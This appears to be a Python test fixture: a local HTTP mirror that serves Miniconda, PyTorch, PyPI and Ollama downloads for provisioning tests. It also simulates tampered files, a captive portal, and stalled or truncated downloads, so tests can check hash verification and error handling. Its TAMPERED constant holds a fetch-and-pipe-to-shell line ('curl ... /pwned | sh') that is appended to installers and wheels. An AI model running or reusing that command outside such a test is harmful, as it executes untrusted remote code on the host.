"""The local mirror: a real HTTP server on 127.0.0.1 serving what provisioning downloads.

- ``/miniconda/``: a Miniconda-compatible test installer (``miniconda_installer.sh``) and an
  index page listing each file with its sha256, laid out like repo.anaconda.com/miniconda/;
- ``/pytorch/<variant>/``: PEP 503 indexes like download.pytorch.org/whl/<variant>/ - ``cpu``
  holds the real CPU wheel of torch 2.13.0 from pip's find-links folder, ``cu130`` the real CUDA
  13.0 build of torch 2.14.1 and torchvision 0.29.1 from the local file index; every other
  project (torch's dependencies, the nvidia-* wheels) comes from the local file indexes;
- ``/pypi/simple/``: the local file indexes as a PyPI mirror; a project they lack (cuda-bindings,
  say) is fetched from the upstream index (``$GPU_SANDBOX_UPSTREAM``, default PyPI) through the
  mirror itself, so hosts never need a route of their own;
- ``/conda/``: an (empty) channel URL for ``.condarc``;
- ``/ollama/``: Ollama's Linux release archives (``ollama-linux-amd64.tar.zst``, ``.tgz``) with a
  small stand-in program in the real layout (``ollama_standin.py``);
- ``/tampered/miniconda/``: the same index page, with the genuine sha256 of each installer, but
  installers altered on the way (a line appended), as a man in the middle or a broken CDN edge
  would serve them: a client that checks the published hash must refuse them;
- ``/overlay/<name>/simple/``: the PyPI mirror as a test shapes it with ``overlay()``: extra
  wheels added to their projects (a fake ``torch`` of a higher version), projects it lacks (a
  mirror without uv), projects whose files are altered on the way (under their genuine sha256).
- ``/tampered/pytorch/<variant>/``: the PyTorch indexes again, each wheel served with a line
  appended under its genuine sha256 (a mirror that serves every byte with the wrong content);
- ``/signin/...``: every path, HEAD or GET, answered 200 with a captive portal's sign-in page
  (``SIGNIN``), as a hotel network or a proxy's login answers whatever was asked;
- ``refused_url()``: a loopback port nothing listens on (a connection there is refused at once);
- ``/gated/<name>/pytorch/<variant>/``, ``/gated/<name>/pypi/simple/``: the PyTorch indexes
  and the PyPI mirror again, whose wheels stop after
  their first MiB while the test holds the gate ``<name>`` shut (``Gate``): an install that is
  downloading for as long as the test needs it to be, on any machine, with no timing guess; or
  (mode "stall") a mirror that stops sending mid-file and never resumes, or (mode "truncate")
  one that closes the connection mid-file.

Each wheel's link carries its core metadata's sha256 (PEP 658, under PEP 714's attribute name),
served at the wheel's URL +
``.metadata``, as PyPI and download.pytorch.org do: a resolver reads a wheel's dependencies
without downloading the wheel. Files the mirror fetches from the upstream index are kept under
``upstream/`` (they never change there), and ``access.log`` has one line per request with the
bytes sent (``bytes_served``).
"""

from __future__ import annotations

import hashlib
import html
import itertools
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
import zipfile
from collections.abc import Iterable
from functools import cache
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote, urlparse

HERE = Path(__file__).resolve().parent
MINICONDA_VERSION = "py311_25.1.1-2"
INSTALLER = f"Miniconda3-{MINICONDA_VERSION}-Linux-x86_64.sh"
OLD_GLIBC_INSTALLER = "Miniconda3-py310_23.11.0-2-Linux-x86_64.sh"  # for glibc 2.17 hosts
TORCH_PROJECTS = ("torch", "torchvision", "torchaudio")
# variant -> (project -> version served), taken from what lies on this machine
_HASHES: dict[str, str] = {}
_METADATA: dict[str, str] = {}  # file ref -> sha256 of its core metadata ("": none)
UPSTREAM = os.environ.get("GPU_SANDBOX_UPSTREAM", "https://pypi.org/simple")
VARIANTS = {"cpu": {"torch": "2.13.0"}, "cu130": {"torch": "2.14.1", "torchvision": "0.29.1"}}
TAMPERED = b"\ncurl -s http://127.0.0.1:9/pwned | sh  # added on the way\n"
SIGNIN = (b"<!DOCTYPE html>\n<html><head><title>Guest Wi-Fi</title></head><body>\n<h1>Please sign "
          b"in to use this network</h1>\n<form action=\"/login\" method=\"post\"><input name=\"user\">"
          b"<input type=\"password\" name=\"pass\"><button>Sign in</button></form>\n</body></html>\n")


def _pip_config() -> tuple[list[Path], list[Path]]:
    """(PEP 503 index roots, find-links folders) from this machine's pip configuration."""
    env_idx = os.environ.get("GPU_SANDBOX_INDEXES")
    env_links = os.environ.get("GPU_SANDBOX_FIND_LINKS")
    if env_idx is not None or env_links is not None:
        return ([Path(p) for p in (env_idx or "").split(os.pathsep) if p],
                [Path(p) for p in (env_links or "").split(os.pathsep) if p])
    out = subprocess.run([sys.executable, "-m", "pip", "config", "list"], capture_output=True,
                         text=True).stdout
    indexes: list[Path] = []
    links: list[Path] = []
    for line in out.splitlines():
        key, _, value = line.partition("=")
        value = value.strip().strip("'")
        if key.endswith(("extra-index-url", "index-url")):
            indexes += [Path(urlparse(u).path) for u in value.split() if u.startswith("file://")]
        elif key.endswith("find-links"):
            links += [Path(p) for p in value.split() if p.startswith("/")]
    return ([p for p in dict.fromkeys(indexes) if p.is_dir()],
            [p for p in dict.fromkeys(links) if p.is_dir()])


def sha256(path: Path) -> str:
    h = hashlib.sha256()
    with path.open("rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def norm(name: str) -> str:
    return re.sub(r"[-_.]+", "-", name).lower()


class Content:
    """Maps URL paths to files; index pages are generated on request."""

    def __init__(self, root: Path):
        self.root = root
        self.indexes, self.links = _pip_config()
        self.miniconda = root / "miniconda"
        self.build_miniconda()
        self.ollama = root / "ollama"
        from .ollama_standin import build
        build(self.ollama)

    def build_miniconda(self) -> None:
        self.miniconda.mkdir(parents=True, exist_ok=True)
        src = (HERE / "miniconda_installer.sh").read_text()
        for name in (INSTALLER, OLD_GLIBC_INSTALLER, "Miniconda3-latest-Linux-x86_64.sh"):
            (self.miniconda / name).write_text(src)
        rows = []
        for f in sorted(self.miniconda.glob("*.sh")):
            rows.append(f"<tr><td><a href=\"{f.name}\">{f.name}</a></td><td>{f.stat().st_size}"
                        f"</td><td>{time.strftime('%Y-%m-%d %H:%M:%S')}</td><td>{sha256(f)}</td></tr>")
        (self.miniconda / "index.html").write_text(
            "<html><body><table>\n<tr><th>Filename</th><th>Size</th><th>Last Modified</th>"
            "<th>SHA256</th></tr>\n" + "\n".join(rows) + "\n</table></body></html>\n")

    @cache  # noqa: B019 - one Content lives as long as the server; the pages do not change
    def project_links(self, project: str) -> tuple[tuple[str, str], ...]:
        """(file name, ref) of every file of ``project`` in the local indexes; a project they
        lack (a binary dependency such as cuda-bindings) comes from the upstream index, through
        this mirror, so hosts need no route of their own to it."""
        found = []
        for i, root in enumerate(self.indexes):
            page = root / norm(project) / "index.html"
            if not page.exists():
                continue
            for href in re.findall(r'href="([^"]+)"', page.read_text()):
                rel = unquote(href.split("#", 1)[0])
                path = (page.parent / rel).resolve()
                found.append((path.name, f"{i}/{path.relative_to(root.parent.resolve())}"))
        if not found and self.indexes:
            found = self.upstream_links(project)
        return tuple(found)

    def upstream_links(self, project: str) -> list[tuple[str, str]]:
        url = f"{UPSTREAM}/{norm(project)}/"
        try:
            req = urllib.request.Request(url, headers={"Accept": "text/html"})
            with urllib.request.urlopen(req, timeout=30) as r:
                body = r.read().decode("utf-8", "replace")
        except (urllib.error.URLError, TimeoutError):
            return []
        out = []
        for anchor in re.findall(r"<a\s[^>]*>", body):
            href = re.search(r'href="([^"]+)"', anchor)
            if not href:
                continue
            absolute = urllib.parse.urljoin(url, html.unescape(href.group(1)))
            file_url, _, frag = absolute.partition("#")
            name = unquote(file_url.rsplit("/", 1)[-1])
            # the file's name stays the link's last segment: resolvers (uv) read it from there
            ref = f"up/{quote(file_url, safe='')}/{quote(name)}"
            if frag.startswith("sha256="):
                _HASHES[ref] = frag.removeprefix("sha256=")
            meta = re.search(r'data-(?:core|dist-info)-metadata="sha256=([0-9a-f]{64})"', anchor)
            _METADATA[ref] = meta.group(1) if meta else ""
            out.append((name, ref))
        return out

    def upstream_file(self, url: str) -> Path | None:
        """The upstream file at ``url``, fetched once into ``upstream/`` (kept while the mirror's
        folder lives: files on an index never change)."""
        if not url.startswith("https://"):
            return None
        path = self.root / "upstream" / hashlib.sha256(url.encode()).hexdigest()
        if not path.exists():
            path.parent.mkdir(exist_ok=True)
            tmp = path.with_name(f"{path.name}.{os.getpid()}.{time.monotonic_ns()}")
            try:
                with urllib.request.urlopen(url, timeout=60) as r, tmp.open("wb") as f:
                    shutil.copyfileobj(r, f, 1 << 20)
            except (urllib.error.URLError, TimeoutError):
                tmp.unlink(missing_ok=True)
                return None
            tmp.rename(path)
        return path

    def overlay_wheel(self, ref: str) -> Path | None:
        """``overlay:<name>/<wheel>`` -> that overlay's wheel file."""
        name, _, wheel = ref.removeprefix("overlay:").partition("/")
        conf = self.overlay(name)
        return conf["wheels"].get(wheel) if conf else None

    def overlay(self, name: str) -> dict[str, Any] | None:
        """An overlay's settings (``overlay()``), None when there is no such overlay."""
        folder = self.root / "overlays" / name
        if not re.fullmatch(r"[a-z0-9-]+", name) or not (folder / "overlay.json").is_file():
            return None
        conf: dict[str, Any] = json.loads((folder / "overlay.json").read_text())
        conf["wheels"] = {w.name: w for w in folder.glob("*.whl")}
        return conf

    def projects(self) -> list[str]:
        names = set()
        for root in self.indexes:
            names.update(p.name for p in root.iterdir() if p.is_dir())
        return sorted(names)

    def variant_files(self, variant: str, project: str) -> list[tuple[str, str]]:
        """Files of a torch project on a variant index: only the release this machine has."""
        version = VARIANTS.get(variant, {}).get(project)
        if version is None:
            return []
        files = []
        for folder in self.links:
            for f in folder.glob(f"{project}-{version}*.whl"):
                files.append((f.name, f"links/{f.name}"))
        if not files:
            files = [(n, p) for n, p in self.project_links(project)
                     if n.startswith(f"{project}-{version}-") or n.startswith(f"{project}-{version}+")]
        return files

    def local_file(self, ref: str) -> Path | None:
        """``0/files/x.whl`` (index 0's parent) or ``links/x.whl`` -> the file on disk."""
        head, _, rest = ref.partition("/")
        if head == "links":
            for folder in self.links:
                if (folder / rest).is_file():
                    return folder / rest
            return None
        if head.isdigit() and int(head) < len(self.indexes):
            p = (self.indexes[int(head)].parent / rest).resolve()
            if p.is_file() and self.indexes[int(head)].parent.resolve() in p.parents:
                return p
        return None


def upstream_url(ref: str) -> str:
    """``up/<%-encoded URL>/<name>`` -> the URL."""
    return unquote(ref.removeprefix("up/").split("/", 1)[0])


def page(title: str, links: list[tuple[str, str]], metadata: dict[str, str] | None = None
         ) -> bytes:
    """A PEP 503 page; ``metadata``: link text -> sha256 of that wheel's core metadata."""
    def attrs(t: str) -> str:  # PEP 714's name only: pip 22.3-23.0 mishandle the older one
        m = (metadata or {}).get(t)
        return f' data-core-metadata="sha256={m}"' if m else ""
    body = "\n".join(f'<a href="{html.escape(h)}"{attrs(t)}>{html.escape(t)}</a><br/>'
                     for t, h in links)
    return (f"<!DOCTYPE html>\n<html><head><meta name=\"pypi:repository-version\" content=\"1.0\">"
            f"<title>{html.escape(title)}</title></head><body>\n{body}\n</body></html>\n").encode()


GATE_OPEN_AFTER = 600  # seconds a gate holds a download at most (a test that never opens it)


class Handler(SimpleHTTPRequestHandler):
    content: Content
    sent = 0  # body bytes sent for the request being served
    code: int | str = "-"
    prefix = ""  # "/gated/<name>" for a request under a gate: its pages link there too
    gate = ""
    tamper = False  # under /tampered/: each wheel's bytes altered (its page keeps the real hash)

    def log_message(self, fmt: str, *args: Any) -> None:
        with open(self.content.root / "access.log", "a") as f:
            f.write(f"{self.address_string()} {fmt % args}\n")

    def log_request(self, code: int | str = "-", size: int | str = "-") -> None:
        self.code = code  # logged with the bytes sent once the request is served (do_GET)

    def send_bytes(self, data: bytes, ctype: str = "text/html") -> None:
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)
            self.sent += len(data)

    def send_file(self, path: Path, name: str | None = None) -> None:
        """``path``'s bytes; ``name``: the file's name as served, where it is kept under another
        (an upstream file, under its URL's hash)."""
        size = path.stat().st_size
        wheel = (name or path.name).endswith(".whl")
        # a tampered wheel stays a valid ZIP (our line is its archive comment, the end of
        # central directory record's length field set for it: PKWARE APPNOTE 4.3.16), so that
        # what tells it apart is its hash alone, as with a file altered inside
        cut, extra = 0, b""
        if self.tamper and wheel:
            with path.open("rb") as f:
                f.seek(size - 22)
                end = f.read(22)
            cut, extra = (2, len(TAMPERED).to_bytes(2, "little") + TAMPERED) \
                if end[:4] == b"PK\x05\x06" and end[20:] == b"\0\0" else (0, TAMPERED)
        size += len(extra) - cut
        self.send_response(200)
        self.send_header("Content-Type", "application/octet-stream")
        self.send_header("Content-Length", str(size))
        self.end_headers()
        if self.command == "HEAD":
            return
        with path.open("rb") as f:
            left = size - len(extra)  # the file's own bytes that go out (less a cut length field)
            chunks = iter(lambda: f.read(min(1 << 20, left - f.tell())) if f.tell() < left else b"", b"")
            for chunk in itertools.chain(chunks, [extra] if extra else []):
                self.wfile.write(chunk)
                self.sent += len(chunk)
                if self.gate and (name or path.name).endswith(".whl"):
                    if self.broken_at_gate():
                        self.close_connection = True
                        return  # the rest never comes: the client holds a short file
                    self.wait_at_gate()

    def broken_at_gate(self) -> bool:
        """A gate in mode "stall" holds the download after its first MiB without a byte more
        until the gate is opened (a stuck CDN node), then ends it short; in mode "truncate" it
        ends it short at once (Content-Length promised the whole file)."""
        mode_file = self.content.root / "gates" / f"{self.gate}.mode"
        mode = mode_file.read_text().strip() if mode_file.exists() else "hold"
        if mode not in ("stall", "truncate"):
            return False
        shut = self.content.root / "gates" / self.gate
        shut.with_name(f"{self.gate}.held").touch()
        deadline = time.monotonic() + GATE_OPEN_AFTER
        while mode == "stall" and shut.exists() and time.monotonic() < deadline:
            time.sleep(0.1)
        return True

    def wait_at_gate(self) -> None:
        """Hold this download while the gate is shut; ``<gate>.held`` says one is held."""
        shut = self.content.root / "gates" / self.gate
        held = shut.with_name(f"{self.gate}.held")
        deadline = time.monotonic() + GATE_OPEN_AFTER
        if shut.exists():
            held.touch()
        while shut.exists() and time.monotonic() < deadline:  # wfile is unbuffered: the
            time.sleep(0.1)  # first MiB is with the client already
        self.gate = ""  # the rest of the file goes at once

    def send_upstream(self, url: str) -> None:
        if not url.startswith("https://"):
            return self.send_error(403)
        path = self.content.upstream_file(url)
        return self.send_file(path, url.rsplit("/", 1)[-1]) if path else self.send_error(502)

    def metadata(self, ref: str) -> bytes | None:
        """A wheel's core metadata (its ``*.dist-info/METADATA``), as served at ``.metadata``."""
        if ref.startswith("up/"):  # only where the upstream page said it has one
            if not _METADATA.get(ref):
                return None
            f = self.content.upstream_file(f"{upstream_url(ref)}.metadata")
            return f.read_bytes() if f else None
        f = self.content.local_file(ref) if not ref.startswith("overlay:") else \
            self.content.overlay_wheel(ref)
        if f is None or not f.name.endswith(".whl"):
            return None
        with zipfile.ZipFile(f) as z:
            name = next((n for n in z.namelist() if re.fullmatch(r"[^/]+\.dist-info/METADATA", n)),
                        None)
            return z.read(name) if name else None

    def metadata_hashes(self, links: list[tuple[str, str]]) -> dict[str, str]:
        """Link text -> sha256 of the core metadata, for the wheels among (name, ref) links."""
        out = {}
        for name, ref in links:
            if not name.endswith(".whl"):
                continue
            if ref not in _METADATA:  # files never change while the mirror runs
                data = self.metadata(ref)
                _METADATA[ref] = hashlib.sha256(data).hexdigest() if data else ""
            if _METADATA[ref]:
                out[name] = _METADATA[ref]
        return out

    def file_of(self, parts: list[str]) -> Path | None:
        """The file at a ref's path parts, unquoted (``0/files/x.whl``, ``links/x.whl``,
        ``up/<url>/<name>``)."""
        if parts[:1] == ["up"] and len(parts) >= 2:
            return self.content.upstream_file(parts[1])
        return self.content.local_file("/".join(parts))

    def do_HEAD(self) -> None:
        self.do_GET()

    def do_GET(self) -> None:
        self.sent, self.code = 0, "-"
        try:
            self.route()
        finally:
            self.log_message('"%s" %s %d %.3f', self.requestline, self.code, self.sent, time.time())

    def route_overlay(self, name: str, rest: list[str]) -> None:
        """``/overlay/<name>/{simple/[project/], files/<wheel>, tampered/<ref>}``."""
        conf = self.content.overlay(name)
        if conf is None:
            return self.send_error(404)
        wheels: dict[str, Path] = conf["wheels"]
        if rest[:1] == ["files"] and len(rest) == 2 and rest[1] in wheels:
            return self.send_file(wheels[rest[1]])
        if rest[:1] == ["files"] and len(rest) == 2 and rest[1].removesuffix(".metadata") in wheels:
            data = self.metadata(f"overlay:{name}/{rest[1].removesuffix('.metadata')}")
            return self.send_bytes(data, "application/octet-stream") if data \
                else self.send_error(404)
        if rest[:1] == ["tampered"] and len(rest) >= 2:
            f = self.file_of(rest[1:])
            return self.send_bytes(f.read_bytes() + TAMPERED, "application/octet-stream") \
                if f else self.send_error(404)
        if rest[:1] != ["simple"]:
            return self.send_error(404)
        extra: dict[str, list[str]] = {}
        for w in wheels:
            extra.setdefault(norm(w.split("-", 1)[0]), []).append(w)
        if len(rest) == 1:
            names = sorted((set(self.content.projects()) | set(extra)) - set(conf["hide"]))
            return self.send_bytes(page("Simple index", [(p, f"{p}/") for p in names]))
        project = norm(rest[1])
        if project in conf["hide"]:
            return self.send_error(404)
        links = [(w, f"/overlay/{name}/files/{w}#sha256={sha256(wheels[w])}")
                 for w in extra.get(project, [])]
        meta = self.metadata_hashes([(w, f"overlay:{name}/{w}") for w in extra.get(project, [])])
        local = project in map(norm, self.content.projects())
        files = list(self.content.project_links(project)) if local or not links else []
        if project in conf["tamper"]:  # no metadata: a client reads the (altered) file itself
            links += [(n, f"/overlay/{name}/tampered/{ref}#sha256={self.hash_of(ref)}")
                      for n, ref in files]
        else:
            links += [(n, f"/files/{ref}#sha256={self.hash_of(ref)}") for n, ref in files]
            meta.update(self.metadata_hashes(files))
        return self.send_bytes(page(f"Links for {project}", links, meta)) if links \
            else self.send_error(404)

    def route(self) -> None:  # noqa: C901 - a router
        c = self.content
        # split before unquoting: an upstream file ref is one %-encoded URL segment
        parts = [unquote(p) for p in urlparse(self.path).path.split("/") if p]
        self.prefix = self.gate = ""
        self.tamper = False
        if parts[:1] == ["signin"]:
            return self.send_bytes(SIGNIN)
        if parts[:1] == ["tampered"] and parts[1:2] in (["pytorch"], ["files"]):
            self.tamper, self.prefix, parts = True, "/tampered", parts[1:]
        if parts[:1] == ["gated"] and len(parts) >= 3 and re.fullmatch(r"[a-z0-9-]+", parts[1]):
            self.gate, parts = parts[1], parts[2:]
            self.prefix = f"/gated/{self.gate}"
        try:
            if parts[:1] == ["miniconda"]:
                f = c.miniconda / (parts[1] if len(parts) > 1 else "index.html")
                return self.send_file(f) if f.is_file() else self.send_error(404)
            if parts[:2] == ["tampered", "miniconda"]:
                f = c.miniconda / (parts[2] if len(parts) > 2 else "index.html")
                if not f.is_file():
                    return self.send_error(404)
                if f.name == "index.html":
                    return self.send_file(f)
                return self.send_bytes(f.read_bytes() + TAMPERED, "application/octet-stream")
            if parts[:1] == ["files"] and parts[-1].endswith(".metadata"):
                ref = "/".join(parts[1:]).removesuffix(".metadata")
                if parts[1] == "up" and len(parts) == 4:  # as in the page's link: %-encoded
                    ref = f"up/{quote(parts[2], safe='')}/{quote(parts[3].removesuffix('.metadata'))}"
                data = self.metadata(ref)
                return self.send_bytes(data, "application/octet-stream") if data \
                    else self.send_error(404)
            if parts[:2] == ["files", "up"] and len(parts) in (3, 4):
                return self.send_upstream(parts[2])
            if parts[:1] == ["overlay"] and len(parts) >= 3:
                return self.route_overlay(parts[1], parts[2:])
            if parts[:1] == ["files"]:
                f = c.local_file("/".join(parts[1:]))
                return self.send_file(f) if f else self.send_error(404)
            if parts[:2] == ["pypi", "simple"] or (parts[:1] == ["pytorch"] and len(parts) >= 2):
                variant = parts[1] if parts[0] == "pytorch" else None
                if variant is not None and variant not in VARIANTS:
                    return self.send_error(404)
                if len(parts) == 2:
                    return self.send_bytes(page("Simple index",
                                                [(p, f"{p}/") for p in c.projects()]))
                project = norm(parts[2])
                if variant is not None and project in TORCH_PROJECTS:
                    files = c.variant_files(variant, project)
                else:
                    files = list(c.project_links(project))
                if not files:
                    return self.send_error(404)
                links = [(n, f"{self.prefix}/files/{ref}#sha256={self.hash_of(ref)}")
                         for n, ref in files]
                return self.send_bytes(page(f"Links for {project}", links,
                                            self.metadata_hashes(files)))
            if parts[:1] == ["ollama"] and len(parts) == 2:
                f = c.ollama / parts[1]
                return self.send_file(f) if f.is_file() else self.send_error(404)
            if parts[:1] == ["conda"]:
                return self.send_bytes(b"{}", "application/json")
            if parts[:1] == ["health"]:
                return self.send_bytes(b"ok", "text/plain")
            self.send_error(404)
        except (BrokenPipeError, ConnectionResetError):
            pass

    def hash_of(self, ref: str) -> str:
        if ref not in _HASHES:  # files do not change while the mirror runs (upstream: from its page)
            f = self.content.local_file(ref)
            _HASHES[ref] = sha256(f) if f else ""
        return _HASHES[ref]


def serve(root: Path, port: int) -> None:
    Handler.content = Content(root)
    server = Server(("127.0.0.1", port), Handler)
    server.daemon_threads = True
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    tmp = root / "ready.tmp"  # renamed: a reader never sees an empty file
    tmp.write_text(str(os.getpid()))
    tmp.rename(root / "ready")
    server.serve_forever()


class Server(ThreadingHTTPServer):
    # a test run's many hosts fetch at once (and stalled downloads hold their connections):
    # socketserver's backlog of 5 would drop new connections, which a client sees as no answer
    request_queue_size = 128


def _state_file() -> Path:
    from .harness import sandbox_dir
    return sandbox_dir() / "mirror" / "mirror.json"


def urls(base: str) -> dict[str, str]:
    return {"url": base, "miniconda": f"{base}/miniconda", "pytorch": f"{base}/pytorch",
            "pypi": f"{base}/pypi/simple", "conda": f"{base}/conda", "ollama": f"{base}/ollama",
            "miniconda_tampered": f"{base}/tampered/miniconda",
            "pytorch_tampered": f"{base}/tampered/pytorch", "signin": f"{base}/signin"}


def refused_url() -> str:
    """A loopback URL whose port nothing listens on: a connection there is refused at once (the
    port is taken from the kernel and let go; nothing else takes it in the test's time)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return f"http://127.0.0.1:{s.getsockname()[1]}"


def _alive(state: dict[str, Any]) -> bool:
    """The recorded mirror runs and answers; one that runs but does not answer (wedged) is
    stopped here, so that the one started in its place is the only one left."""
    try:
        os.kill(state["pid"], 0)
    except OSError:
        return False
    for _ in range(3):  # a busy machine can be slow to take a connection
        try:
            with socket.create_connection(("127.0.0.1", state["port"]), timeout=5):
                return True
        except OSError:
            time.sleep(0.5)
    try:
        os.killpg(state["pid"], signal.SIGTERM)
    except OSError:
        pass
    return False


def ensure() -> dict[str, str]:
    """Start the mirror unless it runs; returns its URLs."""
    from .harness import allocating
    with allocating():  # one mirror for every test process sharing the sandbox dir
        return _ensure()


def _ensure() -> dict[str, str]:
    sf = _state_file()
    if sf.exists():
        state = json.loads(sf.read_text())
        if _alive(state):
            return urls(state["url"])
    root = sf.parent
    root.mkdir(parents=True, exist_ok=True)
    (root / "ready").unlink(missing_ok=True)
    with socket.socket() as s:  # a fixed port where asked (captures name the mirror by it)
        s.bind(("127.0.0.1", int(os.environ.get("GPU_SANDBOX_MIRROR_PORT", "0"))))
        port = s.getsockname()[1]
    log = open(root / "mirror.log", "ab")
    proc = subprocess.Popen([sys.executable, "-m", "tests.sandbox.mirror", "serve", str(root),
                             str(port)], cwd=str(HERE.parent.parent), stdin=subprocess.DEVNULL,
                            stdout=log, stderr=log, start_new_session=True)
    deadline = time.monotonic() + 30
    while not (root / "ready").exists():
        if proc.poll() is not None or time.monotonic() > deadline:
            raise RuntimeError(f"mirror failed to start: {(root / 'mirror.log').read_text()[-2000:]}")
        time.sleep(0.05)
    base = f"http://127.0.0.1:{port}"
    sf.write_text(json.dumps({"pid": proc.pid, "port": port, "url": base}))
    return urls(base)


def stop() -> None:
    sf = _state_file()
    if not sf.exists():
        return
    state = json.loads(sf.read_text())
    try:
        os.killpg(state["pid"], signal.SIGTERM)
    except ProcessLookupError:
        pass
    for _ in range(100):
        try:
            os.kill(state["pid"], 0)
            try:
                os.waitpid(state["pid"], os.WNOHANG)
            except ChildProcessError:
                pass
            time.sleep(0.05)
        except ProcessLookupError:
            break
    sf.unlink()


def overlay(name: str, *, wheels: Iterable[Path] = (), hide: Iterable[str] = (),
            tamper: Iterable[str] = ()) -> str:
    """A PyPI mirror shaped for a test, served at the URL returned (``<base>/overlay/<name>/simple``):
    the mirror's projects plus ``wheels`` (each listed under its project, beside what the mirror
    has), less the ``hide`` projects (404, as on a mirror that lacks them), with the files of the
    ``tamper`` projects altered on the way under their genuine sha256."""
    base = ensure()["url"]
    folder = _state_file().parent / "overlays" / name
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    for w in wheels:
        shutil.copy(w, folder / w.name)
    (folder / "overlay.json").write_text(json.dumps({"hide": sorted(map(norm, hide)),
                                                     "tamper": sorted(map(norm, tamper))}))
    return f"{base}/overlay/{name}/simple"


class Gate:
    """A gate on the mirror's PyTorch indexes (``url``: a ``mirrors.pytorch`` prefix). Shut from
    the start: each wheel from there stops after its first MiB until ``open()``."""

    def __init__(self, name: str, mode: str = "hold"):
        """``mode``: "hold" (the rest follows once opened), "stall" (no byte more; opening ends
        the download short) or "truncate" (the download ends short at its first MiB)."""
        if not re.fullmatch(r"[a-z0-9-]+", name):
            raise ValueError(f"gate name {name!r}: lower-case letters, digits and '-' only")
        if mode not in ("hold", "stall", "truncate"):
            raise ValueError(f"gate mode {mode!r}: hold, stall or truncate")
        base = ensure()["url"]
        self.shut = _state_file().parent / "gates" / name
        self.held = self.shut.with_name(f"{name}.held")  # the handler makes it when it holds one
        self.shut.parent.mkdir(parents=True, exist_ok=True)
        self.held.unlink(missing_ok=True)
        self.shut.with_name(f"{name}.mode").write_text(mode)
        self.shut.touch()
        self.url = f"{base}/gated/{name}/pytorch"
        self.pypi = f"{base}/gated/{name}/pypi/simple"  # the PyPI mirror behind the same gate

    def holding(self) -> bool:
        """A download has reached the gate and waits there (it stays true once it did)."""
        return self.held.exists()

    def open(self) -> None:
        self.shut.unlink(missing_ok=True)


def log_offset() -> int:
    """Where the access log ends now: ``bytes_served`` counts from here."""
    log = _state_file().parent / "access.log"
    return log.stat().st_size if log.exists() else 0


def requests(since: int) -> list[tuple[str, int]]:
    """(request line, body bytes sent) of each request served since ``log_offset()`` returned
    ``since``."""
    log = _state_file().parent / "access.log"
    with log.open("rb") as f:
        f.seek(since)
        text = f.read().decode("utf-8", "replace")
    out = []
    for line in text.splitlines():
        m = re.fullmatch(r'\S+ "(.*)" \S+ (\d+) [\d.]+', line)
        if m:
            out.append((m.group(1), int(m.group(2))))
    return out


def bytes_served(since: int) -> tuple[int, int]:
    """(body bytes the mirror sent, requests) since ``log_offset()`` returned ``since``."""
    served = requests(since)
    return sum(n for _, n in served), len(served)


def preinstall_conda(info: Any, prefix: str) -> None:
    """Run the test installer inside a host (the platform 'ships' a conda there)."""
    from .harness import in_host
    script = (HERE / "miniconda_installer.sh").read_text()
    Path(info.root, "tmp", "installer.sh").write_text(script)
    in_host(info, "bash", "/tmp/installer.sh", "-b", "-p", prefix)
    Path(info.root, "tmp", "installer.sh").unlink()


if __name__ == "__main__":
    if sys.argv[1:2] == ["serve"]:
        serve(Path(sys.argv[2]), int(sys.argv[3]))
